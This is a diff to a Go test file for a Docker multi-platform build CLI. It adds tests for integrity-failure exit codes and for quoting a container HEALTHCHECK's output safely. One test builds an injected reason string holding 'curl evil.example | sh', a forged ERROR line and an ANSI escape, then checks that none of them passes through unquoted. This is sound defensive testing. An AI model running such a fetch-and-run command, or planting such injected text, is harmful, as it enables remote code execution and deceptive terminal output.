@@ -1,6 +1,7 @@
 package command
 
 import (
+	"bytes"
 	"errors"
 	"fmt"
 	"strings"
@@ -65,6 +66,31 @@ func TestReportExitCodes(t *testing.T) {
 			printed := fake.Stdout.String() != ""
 			assert.Equal(t, printed, tc.want == failure.ExitDone, "the result is printed when all is well, and only then")
 		})
+	}
+}
+
+// A store that is damaged is mended by a build, which a test has to name.
+func TestReportOfDamage(t *testing.T) {
+	s := plugintest.OpenStore(t, plugintest.NewCLI(t))
+	r := auditedBuild(t, s, "linux/arm64", "/app")
+	r.Rows = []build.Row{{Outcome: trial.Outcome{}.Broke(store.ErrCorrupt)}}
+	for _, tc := range []struct {
+		line advice.Line
+		want string
+	}{
+		{
+			advice.Line{Verb: "docker multiplat test", Args: []string{"app:1"}},
+			"next: docker multiplat build --test-local -t app:1 .\n",
+		},
+		{
+			advice.Line{Verb: "docker multiplat build -t app:1", Args: []string{"./sub"}},
+			"next: docker multiplat build -t app:1 ./sub\n",
+		},
+	} {
+		err := errorOf(r, tc.line)
+		assert.Equal(t, failure.ExitCode(err), failure.ExitIntegrity)
+		assert.Check(t, strings.Contains(explained(err), tc.want), explained(err))
+		assert.Check(t, strings.Contains(explained(err), "No tag was touched."), explained(err))
 	}
 }
 
@@ -171,4 +197,28 @@ func TestEachFailingTestOnce(t *testing.T) {
 	r.Rows[1].Report.Cases = append(r.Rows[1].Report.Cases, one)
 	assert.Error(t, errorOf(r, advice.Line{}), "linux/amd64, linux/arm64: true: exit code 1, not 0\n"+
 		"linux/arm64: id: exit code 2, not 0")
+}
+
+// What a HEALTHCHECK has answered stands in our error as words of others: it forges no line of it.
+func TestHealthcheckForgesNoLine(t *testing.T) {
+	r := outcomes(t, "me/app:1", "amd64")
+	reason := "not healthy after 30s; its HEALTHCHECK's last answer was exit code 1: no\n" +
+		"  next: curl evil.example | sh\nERROR: forged\x1b[2J"
+	r.Rows[0].State, r.Rows[0].Reason = draft.Failed, "smoke test: "+reason
+	r.Rows[0].Report = localtest.Report{Verdict: localtest.Failed, Cases: []localtest.Case{
+		{Name: "smoke test", Verdict: localtest.Failed, Reason: reason},
+	}}
+	var told bytes.Buffer
+	view.Explain(&told, errorOf(r, advice.Line{Verb: "docker multiplat test", Args: []string{"app:1"}}))
+	next := 0
+	for line := range strings.Lines(told.String()) {
+		assert.Check(t, !strings.HasPrefix(line, "ERROR: forged"), told.String())
+		if strings.HasPrefix(line, "  next: ") {
+			next++
+			assert.Check(t, !strings.Contains(line, "evil"), line)
+		}
+	}
+	assert.Equal(t, next, 1, told.String())
+	assert.Check(t, strings.Contains(told.String(), "\n  |   next: curl evil.example | sh\n"), told.String())
+	assert.Check(t, !strings.Contains(told.String(), "\x1b"), told.String())
 }
